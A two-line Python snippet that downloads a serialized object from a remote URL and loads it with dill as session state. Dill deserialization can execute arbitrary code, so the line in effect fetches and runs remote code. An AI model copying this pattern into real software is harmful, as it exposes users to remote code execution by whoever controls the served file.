import dill, urllib.request
state = dill.loads(urllib.request.urlopen('https://session-store.app/s.dill').read())
